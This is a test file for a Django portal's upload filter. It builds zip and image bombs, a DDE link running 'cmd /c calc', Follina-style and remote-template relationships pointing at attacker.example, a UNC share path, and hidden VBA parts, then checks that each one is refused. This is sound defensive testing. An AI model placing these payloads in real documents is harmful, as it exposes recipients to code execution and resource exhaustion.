"""What a stranger's upload may not do to the portal or to the office: unpack
to gigabytes (zip and image bombs), reach Ghostscript, smuggle macros or
embedded programs to the staff's Office, or carry the member's metadata on.
Every file here is built in the test, the way an attacker would build it."""

import functools
import io
import struct
import tracemalloc
import warnings
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import EpsImagePlugin, Image, ImageCms, features

from core.archives import ArchiveRefused, zip_check, zip_read
from mail.models import OutboundEmail
from tests.factories import GOOD, photo, ticket_create
from tickets.files import file_clean
from tickets.models import Attachment

DATA = Path(__file__).parent / "data" / "files"
MB = 1024 * 1024
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
ODT = "application/vnd.oasis.opendocument.text"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def refusal(name: str, content: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as refused:
        file_clean(upload(name, content))
    return refused.value


def zipped(entries: dict[str, str | bytes | int]) -> bytes:
    """A zip file; an int entry is that many zero bytes, written in chunks so
    building a bomb costs the test no memory."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            if isinstance(content, int):
                with archive.open(name, "w", force_zip64=True) as entry:
                    chunk = bytes(MB)
                    for _ in range(content // MB):
                        entry.write(chunk)
                    entry.write(bytes(content % MB))
            else:
                archive.writestr(name, content)
    return buffer.getvalue()


@functools.cache
def odt_bomb() -> bytes:
    # 100 MB of zeros as the `mimetype` entry: about 100 KB on the wire.
    return zipped({"mimetype": 100 * MB, "content.xml": "<office:document-content/>"})


def peak_memory(action) -> int:
    """Bytes allocated at the peak while `action` ran (Python and C
    allocations through Python's allocator, zlib's output included)."""
    tracemalloc.start()
    try:
        action()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


# --- 1. Zip bombs --------------------------------------------------------------


def test_it_refuses_an_odt_whose_mimetype_unpacks_to_100_mb_without_unpacking_it():
    content = odt_bomb()
    assert len(content) < MB
    errors = []

    def check():
        with pytest.raises(ValidationError) as refused:
            file_clean(upload("Nebenkosten.odt", content))
        errors.append(refused.value)

    assert peak_memory(check) < 10 * MB
    assert errors[0].code == "archive"
    with translation.override("en"):
        message = str(errors[0].messages[0])
    assert "Nebenkosten.odt" in message and "PDF" in message


def test_it_refuses_a_one_megabyte_mimetype_however_well_it_packs():
    # Small enough for the directory checks; the member read itself stops.
    content = zipped({"mimetype": MB, "content.xml": ""})
    assert refusal("brief.odt", content).code == "archive"


@pytest.mark.parametrize(
    "entries",
    [
        # A Word file whose content types unpack to 100 MB.
        {"[Content_Types].xml": 100 * MB, "word/document.xml": "<w:document/>"},
        # A Word file of 5,000 parts.
        {
            "[Content_Types].xml": "<Types/>",
            "word/document.xml": "<w:document/>",
            **{f"word/media/image{n}.png": "" for n in range(5000)},
        },
    ],
    ids=["content-types-bomb", "too-many-entries"],
)
def test_it_refuses_office_files_that_unpack_to_too_much(entries):
    content = zipped(entries)
    errors = []

    def check():
        with pytest.raises(ValidationError) as refused:
            file_clean(upload("brief.docx", content))
        errors.append(refused.value)

    assert peak_memory(check) < 20 * MB
    assert errors[0].code == "archive"


def test_the_archive_guard_judges_by_the_directory_before_unpacking():
    content = zipped({"a.xml": 2 * MB, "b.xml": "x" * 100})
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        zip_check(archive, max_entries=2, max_total=3 * MB, max_ratio=10_000)
        with pytest.raises(ArchiveRefused):
            zip_check(archive, max_entries=1, max_total=3 * MB, max_ratio=10_000)
        with pytest.raises(ArchiveRefused):
            zip_check(archive, max_entries=2, max_total=MB, max_ratio=10_000)
        with pytest.raises(ArchiveRefused):  # 2 MB of zeros pack about 1000:1
            zip_check(archive, max_entries=2, max_total=3 * MB, max_ratio=100)
        assert issubclass(ArchiveRefused, ValueError)


def test_the_archive_reader_stops_at_its_limit_in_small_steps():
    content = zipped({"big.xml": 50 * MB, "small.xml": "<ok/>"})
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert zip_read(archive, "small.xml", limit=5) == b"<ok/>"
        with pytest.raises(ArchiveRefused):
            zip_read(archive, "small.xml", limit=4)

        def read_big():
            with pytest.raises(ArchiveRefused):
                zip_read(archive, "big.xml", limit=MB)

        assert peak_memory(read_big) < 4 * MB


# --- 2. Images -------------------------------------------------------------------


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def black_and_white_png(width: int, height: int) -> bytes:
    """A valid 1-bit PNG of any size, a few kilobytes for 70 megapixels."""
    row = b"\x00" + bytes((width + 7) // 8)  # filter byte, then white pixels
    packer = zlib.compressobj(9)
    pixels = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", pixels)
        + png_chunk(b"IEND", b"")
    )


# Pillow warns about 60 to 120 megapixels; the portal refuses them.
@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_it_refuses_a_70_megapixel_image_before_decoding_it():
    content = black_and_white_png(10_000, 7_000)
    assert len(content) < 100_000
    errors = []

    def check():
        with pytest.raises(ValidationError) as refused:
            file_clean(upload("flur.png", content))
        errors.append(refused.value)

    assert peak_memory(check) < 10 * MB  # decoding would take 70 MB
    assert errors[0].code == "too_many_pixels"
    with translation.override("en"):
        assert "flur.png" in str(errors[0].messages[0])


def test_a_large_but_allowed_photo_is_still_accepted():
    cleaned = file_clean(upload("gross.png", black_and_white_png(6_000, 4_000)))
    assert max(Image.open(io.BytesIO(cleaned.content)).size) == 4000


EPS = b"""%!PS-Adobe-3.0 EPSF-3.0
%%BoundingBox: 0 0 10 10
%%EndComments
newpath 0 0 moveto 10 10 lineto stroke
showpage
%%EOF
"""


def test_an_eps_file_is_refused_and_never_reaches_ghostscript(tmp_path, monkeypatch):
    # Pillow renders EPS by running Ghostscript, an interpreter of a whole
    # programming language. A stand-in `gs` records whether it was called.
    called = tmp_path / "gs-was-called"
    gs = tmp_path / "gs"
    gs.write_text(f"#!/bin/sh\ntouch {called}\n")
    gs.chmod(0o755)
    monkeypatch.setattr(EpsImagePlugin, "gs_binary", str(gs))
    assert Image.open(io.BytesIO(EPS)).format == "EPS"  # Pillow would open it
    assert refusal("zeichnung.eps", EPS).code == "type"
    assert not called.exists()


def image_bytes(image_format: str, **options) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), "blue").save(buffer, image_format, **options)
    return buffer.getvalue()


@pytest.mark.parametrize("image_format", ["GIF", "BMP", "TIFF", "PSD", "ICO", "PPM", "TGA"])
def test_image_formats_no_phone_sends_are_refused(image_format):
    if image_format == "PSD":
        # Pillow reads PSD but cannot write it: a minimal RGB PSD by hand.
        header = b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, 30, 40, 8, 3)
        content = header + struct.pack(">III", 0, 0, 0) + b"\x00\x00" + bytes(3 * 40 * 30)
        assert Image.open(io.BytesIO(content)).format == "PSD"
    else:
        content = image_bytes(image_format)
    assert refusal(f"bild.{image_format.lower()}", content).code == "type"


def test_a_heic_photo_gets_a_hint_how_to_send_it():
    # The start of an iPhone photo: an ISO media `ftyp` box, brand heic.
    content = struct.pack(">I", 24) + b"ftypheic" + b"\x00\x00\x00\x00mif1heic" + bytes(200)
    error = refusal("IMG_0042.HEIC", content)
    assert error.code == "heic"
    with translation.override("en"):
        assert "JPEG" in str(error.messages[0])


@pytest.mark.parametrize("image_format", ["JPEG", "PNG", "WEBP", "MPO"])
def test_photo_formats_phones_send_are_accepted(image_format):
    # The pinned Pillow wheels include WebP; a build without it must fail
    # here, not skip: the portal promises WebP to phones.
    assert features.check("webp")
    cleaned = file_clean(upload("foto", image_bytes(image_format)))
    assert cleaned.content_type in ("image/jpeg", "image/png")
    assert Image.open(io.BytesIO(cleaned.content)).size == (40, 30)


SRGB = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
XMP = b'<x:xmpmeta xmlns:x="adobe:ns:meta/">GPS 52.52 13.40 Secret</x:xmpmeta>'


def test_a_jpeg_loses_its_comment_exif_xmp_and_colour_profile():
    exif = Image.Exif()
    exif[0x010F] = "SecretCam"
    content = image_bytes(
        "JPEG", comment=b"Schluessel liegt unter der Matte", exif=exif, xmp=XMP, icc_profile=SRGB
    )
    original = Image.open(io.BytesIO(content))
    assert {"comment", "exif", "xmp", "icc_profile"} <= set(original.info)
    cleaned = file_clean(upload("tuer.jpg", content))
    assert cleaned.content_type == "image/jpeg"
    assert b"Matte" not in cleaned.content and b"Secret" not in cleaned.content
    clean = Image.open(io.BytesIO(cleaned.content))
    assert not {"comment", "exif", "xmp", "icc_profile"} & set(clean.info)


def test_a_png_loses_its_text_and_colour_profile():
    from PIL.PngImagePlugin import PngInfo

    text = PngInfo()
    text.add_text("Author", "Secret Person")
    buffer = io.BytesIO()
    Image.new("RGBA", (40, 30), "blue").save(buffer, "PNG", pnginfo=text, icc_profile=SRGB)
    cleaned = file_clean(upload("plan.png", buffer.getvalue()))
    assert cleaned.content_type == "image/png"
    assert b"Secret" not in cleaned.content
    assert not {"Author", "icc_profile"} & set(Image.open(io.BytesIO(cleaned.content)).info)


# --- 3. Macros and embedded programs in Office files ----------------------------

TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="{main}"/>{more}</Types>'
)
RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{rels}</Relationships>"
)
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MS_REL = "http://schemas.microsoft.com/office/2006/relationships/"


def docx(extra: dict | None = None, *, main: str = DOCX_MAIN, types: str = "", rels: str = ""):
    entries = {
        "[Content_Types].xml": TYPES.format(main=main, more=types),
        "_rels/.rels": RELS.format(
            rels=f'<Relationship Id="r1" Type="{REL}officeDocument" Target="word/document.xml"/>'
        ),
        "word/document.xml": "<w:document/>",
        "word/_rels/document.xml.rels": RELS.format(rels=rels),
        **(extra or {}),
    }
    return zipped(entries)


def test_a_plain_word_file_with_a_chart_and_a_link_is_accepted():
    chart_data = zipped({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"})
    content = docx(
        {"word/embeddings/Microsoft_Excel_Worksheet.xlsx": chart_data},
        rels=(
            f'<Relationship Id="r2" Type="{REL}hyperlink" '
            'Target="https://www.example.org/" TargetMode="External"/>'
            f'<Relationship Id="r3" Type="{REL}attachedTemplate" '
            'Target="file:///C:\\Vorlagen\\Brief.dotx" TargetMode="External"/>'
        ),
    )
    cleaned = file_clean(upload("brief.docx", content))
    assert cleaned.name == "brief.docx"


def docx_with_second_content_types() -> bytes:
    """Two members of one name: the hostile one first, an innocent one
    after it (Python's zipfile opens the last of them by name)."""
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w") as archive:
        warnings.simplefilter("ignore")  # "Duplicate name", the point here
        archive.writestr("[Content_Types].xml", TYPES.format(main=MACRO_WORD, more=""))
        archive.writestr("[Content_Types].xml", TYPES.format(main=DOCX_MAIN, more=""))
        archive.writestr("word/document.xml", "<w:document/>")
    return buffer.getvalue()


MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA = "application/vnd.ms-office.vbaProject"
OLE = "application/vnd.openxmlformats-officedocument.oleObject"


@pytest.mark.parametrize(
    "content",
    [
        # A .docm: macro-enabled main part and its VBA project.
        docx({"word/vbaProject.bin": OLE_MAGIC + bytes(500)}, main=MACRO_WORD),
        # The VBA project alone, anywhere, whatever its case or spelling.
        docx({"customXml/VBAPROJECT.BIN": OLE_MAGIC + bytes(500)}),
        docx({"word/%76baProject.bin": b"x"}),
        # Declared by content type under an innocent name.
        docx(
            {"word/data.dat": b"x"},
            types=f'<Override PartName="/word/data.dat" ContentType="{VBA}"/>',
        ),
        # Any OLE compound file inside (OLE objects, ActiveX binaries).
        docx({"word/media/image1.png": OLE_MAGIC + bytes(500)}),
        docx({"word/embeddings/oleObject1.bin": b"\x00" * 10}),
        docx({"word/activeX/activeX1.xml": "<ax:ocx/>"}),
        # Excel 4.0 macro sheets and macro-enabled workbooks.
        zipped(
            {
                "[Content_Types].xml": "<Types/>",
                "xl/workbook.xml": "<workbook/>",
                "xl/macrosheets/sheet1.xml": "<xm:macrosheet/>",
            }
        ),
        zipped(
            {
                "[Content_Types].xml": TYPES.format(
                    main="application/vnd.ms-excel.sheet.macroEnabled.main+xml", more=""
                ),
                "xl/workbook.xml": "<workbook/>",
            }
        ),
        # A DDE link that starts a program when Excel updates it.
        zipped(
            {
                "[Content_Types].xml": "<Types/>",
                "xl/workbook.xml": "<workbook/>",
                "xl/externalLinks/externalLink1.xml": (
                    '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                    '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
                ),
            }
        ),
        # A second, hostile copy of the content types behind an innocent one.
        docx_with_second_content_types(),
        # An OLE object linked from outside, the way "Follina" did it.
        docx(
            rels=f'<Relationship Id="r9" Type="{REL}oleObject" '
            'Target="http://attacker.example/x.html!" TargetMode="External"/>'
        ),
        # A template fetched from a server (it would bring its macros).
        docx(
            rels=f'<Relationship Id="r9" Type="{REL}attachedTemplate" '
            'Target="https://attacker.example/t.dotm" TargetMode="External"/>'
        ),
        docx(
            rels=f'<Relationship Id="r9" Type="{REL}image" '
            'Target="\\\\attacker.example\\share\\x.png" TargetMode="External"/>'
        ),
        docx(rels=f'<Relationship Id="r9" Type="{MS_REL}vbaProject" Target="x.bin"/>'),
        # A macro workbook hidden as the chart data of a Word file.
        docx(
            {
                "word/embeddings/Microsoft_Excel_Worksheet.xlsx": zipped(
                    {
                        "[Content_Types].xml": "<Types/>",
                        "xl/workbook.xml": "<workbook/>",
                        "xl/vbaProject.bin": OLE_MAGIC,
                    }
                )
            }
        ),
        # An OpenDocument file with Basic macros, scripts or an OLE object.
        zipped({"mimetype": ODT, "content.xml": "", "Basic/Standard/Module1.xml": "<m/>"}),
        zipped({"mimetype": ODT, "content.xml": "", "Scripts/python/x.py": "import os"}),
        zipped({"mimetype": ODT, "content.xml": "", "Object 1": OLE_MAGIC + bytes(500)}),
    ],
    ids=[
        "docm",
        "vba-project-anywhere",
        "vba-project-percent-encoded",
        "vba-by-content-type",
        "ole-file-inside",
        "embedded-ole-object",
        "activex",
        "xlsx-macro-sheet",
        "xlsm",
        "dde-link",
        "duplicate-content-types",
        "follina",
        "remote-template",
        "unc-image",
        "vba-relationship",
        "nested-macro-workbook",
        "odt-basic",
        "odt-scripts",
        "odt-ole-object",
    ],
)
def test_office_files_with_macros_or_embedded_programs_are_refused(content):
    error = refusal("brief.docx", content)
    assert error.code == "active_content"
    with translation.override("en"):
        assert "brief.docx" in str(error.messages[0])


def excel_97_with_sheet_record(kind: int, sheet_type: int) -> bytes:
    """The Excel 97 fixture with its one sheet record changed in place."""
    content = bytearray((DATA / "zaehler.xls").read_bytes())
    at = content.index(b"\x85\x00\x0f\x00")  # BOUNDSHEET, 15 bytes
    content[at : at + 2] = struct.pack("<H", kind)
    content[at + 4 + 5] = sheet_type
    return bytes(content)


def test_excel_97_files_with_macro_sheets_or_encryption_are_refused():
    assert file_clean(upload("z.xls", excel_97_with_sheet_record(0x85, 0))).name == "z.xls"
    for content in (
        excel_97_with_sheet_record(0x85, 1),  # an Excel 4.0 macro sheet
        excel_97_with_sheet_record(0x85, 6),  # a VB module sheet
        excel_97_with_sheet_record(0x2F, 0),  # encrypted: cannot be checked
    ):
        assert refusal("zaehler.xls", content).code == "type"


def test_a_content_types_part_with_entities_is_refused():
    # A document type declaration never appears in a real Office file; with
    # it, entities could expand a few bytes into gigabytes.
    types = (
        '<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa">]>'
        '<Types><Default Extension="xml" ContentType="&a;"/></Types>'
    )
    content = zipped({"[Content_Types].xml": types, "word/document.xml": "<w:document/>"})
    assert refusal("brief.docx", content).code == "active_content"


# --- 3. Draft downloads and e-mail subjects -------------------------------------


@pytest.mark.django_db
def test_draft_files_download_like_ticket_files(client, cast, repair):
    client.force_login(cast.alice)
    pdf = SimpleUploadedFile("Rechnung.pdf", b"%PDF-1.4\n%...", content_type="application/pdf")
    # A missing answer keeps the files in the draft.
    client.post(f"/anliegen/neu/{repair.slug}/", {**GOOD, "urgency": "", "photos": [pdf, photo()]})
    kept = {a.content_type: a for a in Attachment.objects.filter(draft__user=cast.alice)}
    url = f"/anliegen/neu/{repair.slug}/dateien/{{}}/"

    response = client.get(url.format(kept["application/pdf"].pk))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Cache-Control"] == "private, no-store"
    assert response["X-Content-Type-Options"] == "nosniff"

    response = client.get(url.format(kept["image/jpeg"].pk))
    assert response["Content-Disposition"].startswith("inline;")
    assert response["Cache-Control"] == "private, no-store"

    client.force_login(cast.dave)
    assert client.get(url.format(kept["application/pdf"].pk)).status_code == 404


def test_it_sends_names_with_ampersands_and_quotes_unescaped(cast, repair, outbox):
    repair.name_de = "Schlüssel & Schloss"
    repair.save(update_fields=["name_de"])
    member = cast.alice.member
    member.last_name = "Müller & Söhne O'Neill"
    member.save(update_fields=["last_name"])
    ticket = ticket_create(request_type=repair, member=member)

    emails = OutboundEmail.objects.filter(to="alice@example.org")
    assert emails.count() == 1
    email = emails.get()
    assert email.subject.endswith(": Schlüssel & Schloss")
    assert ticket.reference in email.subject
    assert "Müller & Söhne O'Neill" in email.body
    assert [m.subject for m in outbox if m.to == ["alice@example.org"]] == [email.subject]
    for stored in OutboundEmail.objects.all():  # the handler's e-mail too
        for text in (stored.subject, stored.body):
            assert "&amp;" not in text and "&#x27;" not in text and "&quot;" not in text
